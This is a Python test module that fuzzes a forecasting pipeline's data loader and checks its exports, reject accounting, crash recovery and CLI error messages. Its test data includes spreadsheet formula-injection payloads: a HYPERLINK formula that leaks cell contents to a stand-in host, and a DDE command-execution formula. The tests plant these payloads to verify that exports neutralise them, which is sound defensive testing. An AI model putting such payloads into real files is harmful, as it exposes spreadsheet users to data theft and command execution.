"""Hardening (issue 15): probed as an attacker and as an unlucky operator would.

A generated fuzz corpus (seeded) of every table with bad rows of each kind the issue found,
checked for the accounting loaded + rejected = read on every file, for reject positions that
point at the physical line holding the bad value, and for each reason; formula cells in every
export; snapshot tables that forget deleted rows in every output; readers in a loop during a
run; a run killed inside publish; the operator errors of the CLI; optional files that cannot
load (issue 16, item 5). Small folders and fast models: the module runs in well under a minute.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from forecast.cli import app
from forecast.config import MAX_HORIZON, RunSettings
from forecast.ingest.contract import (
    DATE_MAX,
    MAX_TEXT_LENGTH,
    TABLES,
    ContractError,
)
from forecast.ingest.published import open_snapshot
from forecast.ingest.warehouse import Warehouse
from forecast.publish.exports import FORMULA_STARTS, neutralise_cell
from tests.conftest import FAST_MODELS

TODAY = date(2026, 11, 5)
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


def _write(path: Path, text: str) -> Path:
    path.write_text(textwrap.dedent(text).lstrip("\n"))
    return path


def _records(path: Path) -> list[tuple[int, list[str]]]:
    """Every CSV record after the header with the physical line it starts on (independent of
    the loader: Python's csv module)."""
    opener = gzip.open if path.name.endswith(".gz") else open
    with opener(path, "rt", newline="\n") as handle:  # lines end at \n, as the loader counts
        reader = csv.reader(handle)
        out, previous = [], 0
        for row in reader:
            if row:
                out.append((previous + 1, row))
            previous = reader.line_num
    return out[1:]


# -- the fuzz corpus ----------------------------------------------------------------------------
def make_corpus(folder: Path, seed: int) -> dict[str, dict[int, tuple[str, str]]]:
    """A seeded data folder of every table, each file with good rows and injected bad ones.

    Returns, per table, the bad rows by physical line: (column, reason fragment). Good rows
    are drawn at random (SKU, dates, quantities); bad rows cover every rule of the issue:
    non-ISO dates, dates outside the window or too far ahead, huge and non-finite numbers,
    text too long, NUL bytes, formulas as names (these load: they are neutralised on export),
    quoted fields spanning lines before later bad rows, duplicate keys and unknown SKUs."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    skus = [f"SKU{i:03d}" for i in range(1, 6)]
    expected: dict[str, dict[int, tuple[str, str]]] = {}

    def emit(name: str, header: list[str], good, bad) -> None:
        """Write good and bad rows shuffled; a bad row is (row dict, column, reason)."""
        rows = [(r, None) for r in good] + [(r, (col, why)) for r, col, why in bad]
        rng.shuffle(rows)
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\r\n")  # Windows line ends: \r in a value is quoted
        writer.writerow(header)
        line, marks = 2, {}
        for row, mark in rows:
            values = [row.get(h, "") for h in header]
            writer.writerow(values)
            if mark:
                marks[line] = mark
            line += 1 + sum(str(v).count("\n") for v in values)
        (folder / f"{name}.csv").write_bytes(buffer.getvalue().encode())
        expected[name] = marks

    start = TODAY - timedelta(days=90)
    sales = [{"date": str(start + timedelta(days=d)), "sku": s, "quantity": rng.randint(0, 9),
              "on_hand": rng.randint(1, 50)} for s in skus for d in range(90)]
    bad_sales = [
        ({"date": "9999-12-31", "sku": "SKU001", "quantity": 1}, "date", "outside 1900-01-01"),
        ({"date": "0001-01-01", "sku": "SKU001", "quantity": 1}, "date", "outside 1900-01-01"),
        ({"date": "infinity", "sku": "SKU001", "quantity": 1}, "date", "not an ISO date"),
        ({"date": "-2024-01-01", "sku": "SKU001", "quantity": 1}, "date", "not an ISO date"),
        ({"date": "5874897-01-01", "sku": "SKU001", "quantity": 1}, "date", "not an ISO date"),
        ({"date": "2026/01/15", "sku": "SKU002", "quantity": 1}, "date", "not an ISO date"),
        ({"date": "2026-1-5", "sku": "SKU002", "quantity": 1}, "date", "not an ISO date"),
        ({"date": str(TODAY + timedelta(days=400)), "sku": "SKU002", "quantity": 1}, "date",
         "days after the day of the load"),
        ({"date": "2025-06-01", "sku": "SKU003", "quantity": "1e308"}, "quantity", "beyond the largest"),
        ({"date": "2025-06-02", "sku": "SKU003", "quantity": "inf"}, "quantity", "not a number"),
        ({"date": "2025-06-03", "sku": "SKU003", "quantity": "NaN"}, "quantity", "not a number"),
        ({"date": "2025-06-04", "sku": "SKU\x00003", "quantity": 1}, "sku", "control character"),
        ({"date": "2025-06-05", "sku": "S" * (MAX_TEXT_LENGTH + 1), "quantity": 1}, "sku",
         "characters long"),
        ({"date": "2025-06-06", "sku": "SKU004", "quantity": -3}, "quantity", "negative quantity"),
    ]
    emit("sales", ["date", "sku", "quantity", "on_hand"], sales, bad_sales)

    products = [{"sku": s, "name": rng.choice(FORMULAS) if i == 0 else f"Product {s}\nsecond line",
                 "unit_cost": f"{rng.uniform(1, 9):.2f}", "supplier": FORMULAS[1] if i < 3 else "SUP2"}
                for i, s in enumerate(skus)]
    bad_products = [
        ({"sku": "SKU900", "name": "x" * (MAX_TEXT_LENGTH + 5)}, "name", "characters long"),
        ({"sku": "SKU901", "unit_cost": "1e12"}, "unit_cost", "beyond the largest"),
        ({"sku": "SKU902", "unit_cost": "-1"}, "unit_cost", "negative unit_cost"),
    ]
    emit("products", ["sku", "name", "unit_cost", "supplier"], products, bad_products)

    emit("suppliers", ["supplier", "name", "lead_time_days"],
         [{"supplier": FORMULAS[1], "name": FORMULAS[0], "lead_time_days": 5},
          {"supplier": "SUP2", "name": "@evil", "lead_time_days": 7}],
         [({"supplier": "SUP3", "lead_time_days": "1e10"}, "lead_time_days", "beyond the largest")])

    # The SKUs of the formula supplier are out of stock: they get order lines in every export.
    emit("inventory", ["sku", "on_hand"],
         [{"sku": s, "on_hand": 0 if i < 3 else rng.randint(0, 40)} for i, s in enumerate(skus)],
         [({"sku": "NOPE", "on_hand": 3}, "sku", "unknown sku")])

    pos = [{"po_id": f"P{i}", "sku": skus[i % 5], "quantity": 10 + i,
            "expected_date": str(TODAY + timedelta(days=3 + i))} for i in range(8)]
    emit("purchase_orders", ["po_id", "sku", "quantity", "expected_date"], pos,
         [({"po_id": "P90", "sku": "SKU001", "quantity": 5, "expected_date": "2199-01-01"},
           "expected_date", "outside 1900-01-01"),
          ({"po_id": "P91", "sku": "SKU001", "quantity": 5, "expected_date": "2040-01-01"},
           "expected_date", "days after the day of the load")])

    orders = [{"order_id": f"O{i}", "customer_id": f"C{i % 3}", "sku": skus[i % 5], "quantity": 1 + i % 4,
               "order_date": str(TODAY - timedelta(days=i)), "status": "open"} for i in range(12)]
    orders += [{"order_id": f"H{i}", "customer_id": "C1", "sku": "SKU001", "quantity": 1,
                "order_date": "2026-02-01", "status": "shipped", "status_date": "2026-02-03"}
               for i in range(3)]
    emit("customer_orders", ["order_id", "customer_id", "sku", "quantity", "order_date", "status",
                             "status_date"], orders,
         [({"order_id": "O99", "customer_id": "C1", "sku": "SKU001", "quantity": 1,
            "order_date": "2026-3-5"}, "order_date", "not an ISO date"),
          ({"order_id": "O98", "customer_id": "=cmd|' /C calc'!A0", "sku": "GHOST", "quantity": 1,
            "order_date": "2026-03-05"}, "sku", "unknown sku")])

    emit("customers", ["customer_id", "segment"],
         [{"customer_id": f"C{i}", "segment": "vip" if i == 0 else "regular"} for i in range(3)],
         [({"customer_id": "C\x007", "segment": "vip"}, "customer_id", "control character")])

    emit("campaigns", ["sku", "start_date", "end_date", "kind"],
         [{"sku": "SKU001", "start_date": "2026-02-01", "end_date": "2026-02-05", "kind": "promotion"}],
         [({"sku": "GHOST", "start_date": "2026-02-01", "end_date": "2026-02-05"}, "sku", "unknown sku")])
    return expected


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    folder = tmp_path_factory.mktemp("corpus")
    return folder, make_corpus(folder / "data", seed=15)


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_fuzz_corpus_accounting_positions_and_reasons(tmp_path, seed) -> None:
    """Every file: loaded + rejected = records read; every reject names its column and the
    physical line of its bad value (also after fields spanning lines); each reason as expected."""
    data = tmp_path / "data"
    expected = make_corpus(data, seed)
    with Warehouse(tmp_path / "w.duckdb") as wh:
        for name in ("sales", "products", "suppliers", "customers", "campaigns", "inventory",
                     "purchase_orders", "customer_orders"):
            path = data / f"{name}.csv"
            result = wh.load_file(TABLES[name], path, "r", today=TODAY)
            records = _records(path)
            assert result.loaded + result.rejected == result.rows_read == len(records), name
            assert result.loaded == len(wh.table(name)) or TABLES[name].snapshot_rows, name
            rejects = wh.rejects(name)
            assert rejects["column_name"].notna().all(), name
            got = {int(r.line): (r.column_name, r.reason) for r in rejects.itertuples()}
            for line, (column, reason) in expected[name].items():
                assert line in got, (name, line, got)
                assert got[line][0] == column and reason in got[line][1], (name, line, got[line])
            assert set(got) == set(expected[name]), name  # and nothing else was rejected
            lines = path.read_bytes().decode().split("\n")  # as an editor shows them
            first_values = dict(records)
            for line in expected[name]:
                assert lines[line - 1].startswith(first_values[line][0]), (name, line)


def test_rejects_are_keyed_by_resolved_path_and_content(tmp_path, corpus) -> None:
    """The same folder ingested by a relative path, a symlink and a copy: rejects never double."""
    _, _ = corpus
    data = tmp_path / "data"
    make_corpus(data, seed=4)
    (tmp_path / "link").symlink_to(data)
    shutil.copytree(data, tmp_path / "copy")
    counts = []
    cwd = os.getcwd()
    try:
        os.chdir(tmp_path)
        with Warehouse(tmp_path / "w.duckdb") as wh:
            for folder in (data, Path("data"), tmp_path / "link", tmp_path / "copy"):
                wh.load_file(TABLES["sales"], folder / "sales.csv", today=TODAY)
                counts.append(len(wh.rejects()))
            files = set(wh.rejects()["file"])
    finally:
        os.chdir(cwd)
    assert counts == [counts[0]] * 4 and counts[0] > 0
    assert files == {str((tmp_path / "copy" / "sales.csv").resolve())}


def test_parquet_rows_and_a_column_of_the_wrong_type(tmp_path) -> None:
    """Parquet rows are numbered from 1; an optional column whose every value has the wrong type
    is one reject for the column, the rows load, and rows that depend on them are not blamed."""
    n = 40
    sales = pd.DataFrame({"date": pd.date_range("2026-01-01", periods=n).date,
                          "sku": [f"S{i % 4}" for i in range(n)], "quantity": 1.0,
                          "on_hand": pd.date_range("2020-01-01", periods=n)})  # timestamps, not stock
    sales.loc[7, "quantity"] = -1.0
    sales.to_parquet(tmp_path / "sales.parquet")
    orders = tmp_path / "customer_orders.csv"
    _write(orders, """
        order_id,customer_id,sku,quantity,order_date
        O1,C1,S1,1,2026-01-03
        O2,C1,S2,1,2026-01-03
        """)
    with Warehouse(tmp_path / "w.duckdb") as wh:
        result = wh.load_file(TABLES["sales"], tmp_path / "sales.parquet", today=TODAY)
        assert (result.loaded, result.rejected, result.rows_read) == (n - 1, 1, n)
        assert result.column_errors == ["on_hand"]
        rejects = wh.rejects("sales")
        by_column = dict(zip(rejects["column_name"], rejects["line"]))
        assert by_column == {"quantity": 8, "on_hand": 0}  # row 8 (first row = 1); 0 = the schema
        assert wh.table("sales")["on_hand"].isna().all()
        assert wh.load_file(TABLES["customer_orders"], orders, today=TODAY).rejected == 0
    bad = sales.assign(quantity=pd.date_range("2020-01-01", periods=n))
    bad.to_parquet(tmp_path / "sales.parquet")
    with Warehouse(tmp_path / "w.duckdb") as wh, pytest.raises(
            ContractError, match=r"sales\.parquet: column quantity holds no valid float"):
        wh.load_file(TABLES["sales"], tmp_path / "sales.parquet", today=TODAY)


def test_loaded_though_wrong_cases_are_rejected_with_their_reason(tmp_path) -> None:
    """Issue item 8: an unterminated quote, an empty file, a truncated .gz."""
    with Warehouse(tmp_path / "w.duckdb") as wh:
        wh.load_file(TABLES["sales"], _write(tmp_path / "sales.csv", """
            date,sku,quantity
            2026-01-01,SKU0001,1
            2026-01-02,SKU0002,1
            """), today=TODAY)
        products = _write(tmp_path / "products.csv", """
            sku,name
            SKU0001,one
            "SKU0002,two
            SKU0003,three
            """)
        result = wh.load_file(TABLES["products"], products, today=TODAY)
        assert (result.loaded, result.rejected) == (2, 1)
        assert '"SKU0002' not in set(wh.table("products")["sku"])
        reason = wh.rejects("products").set_index("line").loc[3, "reason"]
        assert "stray quote in sku" in reason
        (tmp_path / "empty.csv").write_text("")
        with pytest.raises(ContractError, match=r"empty\.csv: the file is empty \(no header line\)"):
            wh.load_file(TABLES["customers"], tmp_path / "empty.csv", today=TODAY)
        data = gzip.compress(("sku,on_hand\n" + "".join(f"SKU0001,{i}\n" for i in range(3000))).encode())
        (tmp_path / "inventory.csv.gz").write_bytes(data[: len(data) // 2])
        with pytest.raises(ContractError) as info:
            wh.load_file(TABLES["inventory"], tmp_path / "inventory.csv.gz", today=TODAY)
        message = str(info.value)
        assert "inventory.csv.gz: cannot be read as a table: Unexpected end of GZIP stream" in message
        assert "LINE 1" not in message and "read_csv" not in message  # no internal SQL


def test_limits_are_documented_in_the_readme() -> None:
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text()
    for text in ("1900-01-01", str(DATE_MAX), "1e9", str(MAX_TEXT_LENGTH), f"1..{MAX_HORIZON}",
                 "replaces the table as a whole", "30 s", ".generations"):
        assert text in readme, text


# -- exports -----------------------------------------------------------------------------------
def test_neutralise_cell_follows_owasp() -> None:
    for formula in FORMULAS:
        assert neutralise_cell(formula) == "'" + formula
    assert neutralise_cell("SKU001") == "SKU001" and neutralise_cell(-3.5) == -3.5
    assert neutralise_cell(None) is None


def _assert_no_formula(exports: Path) -> int:
    """No CSV cell starts like a formula and no workbook cell is a formula; returns cells seen."""
    seen = 0
    for path in sorted(exports.glob("*.csv")):
        with open(path, newline="") as handle:
            for row in csv.reader(handle):
                seen += len(row)
                bad = [c for c in row if c.startswith(FORMULA_STARTS) and not _is_number(c)]
                assert not bad, (path.name, bad)
    for path in sorted(exports.glob("*.xlsx")):
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    seen += 1
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)
    return seen


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- full runs on the corpus -------------------------------------------------------------------
def _settings(data: Path, out: Path) -> RunSettings:
    return RunSettings(data_dir=data, out_dir=out, horizon=14, n_paths=30, models=FAST_MODELS,
                       simulation_days=30, country=None)


READER_LOOP = """
import sys, time, duckdb
from pathlib import Path
from typer.testing import CliRunner
from forecast.cli import app
out, stop = Path(sys.argv[1]), Path(sys.argv[2])
runner, done, failed = CliRunner(), 0, []
while not stop.exists():
    for args in (["runs"], ["rejects", "--limit", "3"], ["backorders", "--limit", "3"]):
        result = runner.invoke(app, [*args, "--out", str(out)])
        done += 1
        if result.exit_code != 0:
            failed.append(result.output)
    try:  # an analyst's notebook: a short read-only look at the warehouse itself
        con = duckdb.connect(str(out / "warehouse.duckdb"), read_only=True)
        con.execute("SELECT count(*) FROM runs").fetchall()
        con.close()
    except duckdb.IOException:
        pass  # the writer holds it: the notebook would wait; the run must not fail
    time.sleep(0.2)
print(done, len(failed), failed[:1])
"""


@pytest.fixture(scope="module")
def runs(corpus, tmp_path_factory):
    """Run 1 on the corpus; then rows are removed from every snapshot file, a broken optional
    file is added, and run 2 goes while readers loop on the output folder."""
    from forecast.pipeline import run_pipeline

    folder, _ = corpus
    data = folder / "data"
    out = tmp_path_factory.mktemp("out")
    first = run_pipeline(_settings(data, out))
    with Warehouse(out / "warehouse.duckdb") as wh:
        before = {name: wh.table(name) for name in ("inventory", "purchase_orders", "customer_orders")}
        on_order_before = wh.output("recommendations")
    # The ERP's state moved on: five POs received, every open order line shipped or gone,
    # one stock record gone; and suppliers.csv arrives without its required column.
    pos = pd.read_csv(data / "purchase_orders.csv", dtype=str)
    pos[~pos["po_id"].isin(["P0", "P1", "P2", "P3", "P4"])].to_csv(data / "purchase_orders.csv", index=False)
    orders = pd.read_csv(data / "customer_orders.csv", dtype=str)
    orders[orders["status"] != "open"].to_csv(data / "customer_orders.csv", index=False)
    inventory = pd.read_csv(data / "inventory.csv", dtype=str)
    inventory[inventory["sku"] != "SKU002"].to_csv(data / "inventory.csv", index=False)
    (data / "suppliers.csv").write_text("name,lead_time_days\nNorthwind,5\n")
    stop = out / "stop-readers"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    readers = subprocess.Popen([sys.executable, "-c", READER_LOOP, str(out), str(stop)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        time.sleep(3)  # the readers are going before the run starts
        second = run_pipeline(_settings(data, out))
    finally:
        stop.touch()
        reader_out, reader_err = readers.communicate(timeout=120)
    return {"out": out, "data": data, "first": first, "second": second, "before": before,
            "recs_before": on_order_before, "readers": (reader_out, reader_err)}


def test_every_export_of_a_run_holds_no_formula(runs) -> None:
    exports = runs["out"] / "exports"
    assert _assert_no_formula(exports) > 1000
    recs = pd.read_csv(exports / "reorder_recommendations.csv")
    assert "'=cmd|' /C calc'!A0" in set(recs["supplier"])  # shown as text, kept whole
    policies = pd.read_csv(exports / "policies.csv")
    assert "'=cmd|' /C calc'!A0" in set(policies["supplier"])
    book = openpyxl.load_workbook(exports / "reorder_recommendations.xlsx")
    summary = [c.value for row in book["summary"].iter_rows() for c in row]
    assert "'=cmd|' /C calc'!A0" in summary


def test_snapshot_tables_forget_removed_rows_in_every_output(runs) -> None:
    out = runs["out"]
    assert len(runs["before"]["purchase_orders"]) == 8
    assert (runs["before"]["customer_orders"]["status"] == "open").sum() == 12
    with Warehouse(out / "warehouse.duckdb") as wh:
        pos = wh.table("purchase_orders")
        orders = wh.table("customer_orders")
        recs = wh.output("recommendations")
        book = wh.output("backorders")
        allocations = wh.output("allocations")
        inventory = wh.table("inventory")
        suppliers = wh.table("suppliers")
    assert sorted(pos["po_id"]) == ["P5", "P6", "P7"]
    assert set(orders["status"]) == {"shipped"} and len(orders) == 3  # history stays
    assert book.empty and allocations.empty
    assert "SKU002" not in set(inventory["sku"])
    assert suppliers.empty  # skipped file: the documented default, not the old state
    on_order = recs.set_index("sku")["on_order"] if len(recs) else pd.Series(dtype=float)
    expected = pos.groupby("sku")["quantity"].sum()
    for sku, units in on_order.items():
        assert units == expected.get(sku, 0.0), sku
    exported = pd.read_csv(out / "exports" / "backorders.csv")
    assert exported.empty
    con = open_snapshot(out / "snapshot")
    assert con.execute("SELECT count(*) FROM purchase_orders").fetchone()[0] == 3
    assert con.execute("SELECT count(*) FROM backorders").fetchone()[0] == 0
    assert con.execute("SELECT count(*) FROM customer_orders WHERE status = 'open'").fetchone()[0] == 0
    con.close()


def test_partial_load_keeps_going_and_reports_the_skipped_file(runs) -> None:
    second = runs["second"]
    skipped = second.ingest.skipped
    assert set(skipped) == {"suppliers"}
    message = skipped["suppliers"]
    assert "suppliers.csv: missing required column(s) supplier" in message
    assert "skipped: the run goes on without suppliers" in message
    assert "default lead time" in message
    assert {"sales", "products", "purchase_orders", "customer_orders"} <= set(second.ingest.loaded)
    with Warehouse(runs["out"] / "warehouse.duckdb") as wh:
        run = wh.runs().set_index("run_id").loc[second.run_id]
        rejects = wh.rejects("suppliers")
    assert run["status"] == "succeeded"
    assert any("suppliers.csv: missing required column" in w for w in json.loads(run["warnings"]))
    assert rejects[["line", "column_name"]].values.tolist() == [[1, "supplier"]]


def test_sales_without_a_required_column_still_stops(tmp_path) -> None:
    from forecast.pipeline import ingest

    _write(tmp_path / "sales.csv", "day,sku,quantity\n2026-01-01,A,1\n")
    with pytest.raises(ContractError, match=r"sales\.csv: missing required column\(s\) date"):
        ingest(RunSettings(data_dir=tmp_path, out_dir=tmp_path / "out"))


def test_readers_in_a_loop_never_break_the_run(runs) -> None:
    out, err = runs["readers"]
    done, failed = (int(x) for x in out.split()[:2])
    assert done >= 6, (out, err)  # they really read during the run
    assert failed == 0, out
    with Warehouse(runs["out"] / "warehouse.duckdb") as wh:
        statuses = wh.runs().set_index("run_id")["status"]
    assert statuses[runs["second"].run_id] == "succeeded"


def test_writer_waits_for_a_reader_and_names_a_holder(tmp_path) -> None:
    from forecast.ingest.warehouse import WarehouseLockedError

    path = tmp_path / "w.duckdb"
    Warehouse(path).close()
    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
        import duckdb, time, sys
        con = duckdb.connect({str(path)!r}, read_only=True)
        print("open", flush=True)
        time.sleep(float(sys.argv[1]))
        """), "1.5"], stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "open"
    start = time.monotonic()
    with Warehouse(path, lock_wait=20):  # waits for the reader to let go
        waited = time.monotonic() - start
    holder.wait()
    assert 0.3 < waited < 15
    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
        import duckdb, time
        con = duckdb.connect({str(path)!r}, read_only=True)
        print("open", flush=True)
        time.sleep(30)
        """)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "open"
        with pytest.raises(WarehouseLockedError) as info:
            Warehouse(path, lock_wait=0.5)
        assert f"in use by PID {holder.pid} (" in str(info.value)
        assert "a pipeline run" not in str(info.value) and "waited 0.5 s" in str(info.value)
    finally:
        holder.kill()
        holder.wait()


KILLED_RUN = """
import os, signal, sys
from pathlib import Path
from forecast.config import RunSettings
from forecast.pipeline import run_pipeline
from forecast.publish import exports, staging
from tests.conftest import FAST_MODELS
where = sys.argv[3]

def die(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGKILL)

if where == "exports":  # half-way through writing the exports
    original = exports.write_notices
    def write_notices(notices, path):
        path.write_text("")
        die()
    exports.write_notices = write_notices
elif where == "commit":  # staged and complete, the warehouse not committed yet
    original = staging.complete
    def complete(out_dir, folder):
        original(out_dir, folder)
        die()
    staging.complete = complete
elif where == "swap":  # committed, the folder not swapped in yet
    staging.swap = die
settings = RunSettings(data_dir=Path(sys.argv[1]), out_dir=Path(sys.argv[2]), horizon=14, n_paths=30,
                       models=FAST_MODELS, simulation_days=30, country=None)
run_pipeline(settings)
"""


def _published_files(out: Path) -> dict[str, int]:
    return {p.name: p.stat().st_size for p in sorted((out / "exports").iterdir())}


def test_a_run_killed_inside_publish_leaves_the_whole_previous_plan(runs, tmp_path) -> None:
    """Killed while writing exports, before the commit and between the commit and the swap:
    readers see a whole plan each time (no empty file), the killed run never stays `running`
    and the next run swaps in a plan that was committed but not swapped."""
    from forecast.pipeline import run_pipeline
    from forecast.publish import staging

    out = tmp_path / "out"
    shutil.copytree(runs["out"], out, symlinks=True)
    data = runs["data"]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    with Warehouse(out / "warehouse.duckdb") as wh:
        published = wh.published_run()
    for where in ("exports", "commit", "swap"):
        before = _published_files(out)
        assert all(size > 0 for size in before.values())
        killed = subprocess.run([sys.executable, "-c", KILLED_RUN, str(data), str(out), where],
                                check=False, env=env, capture_output=True, text=True, timeout=300)
        assert killed.returncode == -signal.SIGKILL, killed.stderr[-2000:]
        assert _published_files(out) == before, where  # the previous plan, whole
        with Warehouse(out / "warehouse.duckdb") as wh:
            runs_now = wh.runs()
            now_published = wh.published_run()
        killed_run = runs_now.iloc[0]
        assert killed_run["status"] == "running"  # until the next run finds it
        if where == "swap":
            assert now_published == killed_run["run_id"]  # committed, not swapped in yet
            assert staging.current_run(out) == published
        else:
            assert now_published == published
    summary = run_pipeline(_settings(data, out))
    with Warehouse(out / "warehouse.duckdb") as wh:
        statuses = wh.runs().set_index("run_id")["status"]
    assert (statuses.drop(summary.run_id) != "running").all()
    assert (statuses == "abandoned").sum() == 3
    assert statuses[summary.run_id] == "succeeded"
    assert staging.current_run(out) == summary.run_id
    assert not [p for p in (out / ".generations").iterdir() if p.name.endswith(".partial")]


# -- operator errors ---------------------------------------------------------------------------
def _one_line_error(result, *fragments: str) -> None:
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    text = result.output.strip()
    assert "Traceback" not in text
    assert len(text.splitlines()) == 1, text
    assert text.startswith("error: "), text
    for fragment in fragments:
        assert fragment in text, (fragment, text)


@pytest.mark.parametrize("horizon, fragment", [("0", "greater than or equal to 1"),
                                                ("-5", "greater than or equal to 1"),
                                                ("100000", f"less than or equal to {MAX_HORIZON}")])
def test_horizon_out_of_range_is_one_line(tmp_path, horizon, fragment) -> None:
    result = CliRunner().invoke(app, ["run", "--data", str(tmp_path), "--out", str(tmp_path / "o"),
                                      "--horizon", horizon])
    _one_line_error(result, f"horizon = {int(horizon)}", fragment)


@pytest.mark.parametrize("command", ["run", "ingest"])
def test_unusable_output_folders_are_one_line(tmp_path, corpus, command) -> None:
    folder, _ = corpus
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    cases = {a_file: "not a folder", Path("/proc/forecast-out"): "no such file or directory",
             Path("/sys/forecast-out"): "operation not permitted"}
    for out, fragment in cases.items():
        result = CliRunner().invoke(app, [command, "--data", str(folder / "data"), "--out", str(out)])
        _one_line_error(result, str(out), fragment)


def test_export_into_an_unusable_folder_is_one_line(runs, tmp_path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "warehouse.duckdb").symlink_to(runs["out"] / "warehouse.duckdb")
    (out / "exports").write_text("a file where the exports folder should be")
    for fmt in ("csv", "xlsx"):
        result = CliRunner().invoke(app, ["export", "--out", str(out), "--format", fmt])
        _one_line_error(result, str(out / "exports"), "not a folder")
    result = CliRunner().invoke(app, ["export", "--out", str(tmp_path / "nothing")])
    _one_line_error(result, "no warehouse yet")


def test_a_read_only_output_folder_is_one_line(tmp_path, corpus, monkeypatch) -> None:
    """A read-only folder (root ignores permissions, so the OS error is raised as a read-only
    file system would raise it)."""
    folder, _ = corpus
    out = tmp_path / "ro"
    out.mkdir()
    real_touch = Path.touch

    def read_only(self, *args, **kwargs):
        if self.parent == out:
            raise OSError(30, "Read-only file system", str(self))
        return real_touch(self, *args, **kwargs)

    monkeypatch.setattr(Path, "touch", read_only)
    result = CliRunner().invoke(app, ["run", "--data", str(folder / "data"), "--out", str(out)])
    _one_line_error(result, "cannot write the output folder (read-only file system",
                    "give --out a folder you can write")


def test_a_busy_output_folder_names_the_run(runs) -> None:
    from forecast.pipeline import run_lock

    with run_lock(runs["out"]):
        result = CliRunner().invoke(app, ["run", "--data", str(runs["data"]), "--out", str(runs["out"])])
    _one_line_error(result, "another pipeline run is writing here (pid ")


def test_a_bad_data_folder_is_one_line(tmp_path) -> None:
    result = CliRunner().invoke(app, ["ingest", "--data", str(tmp_path / "none"), "--out", str(tmp_path)])
    _one_line_error(result, "data folder not found")
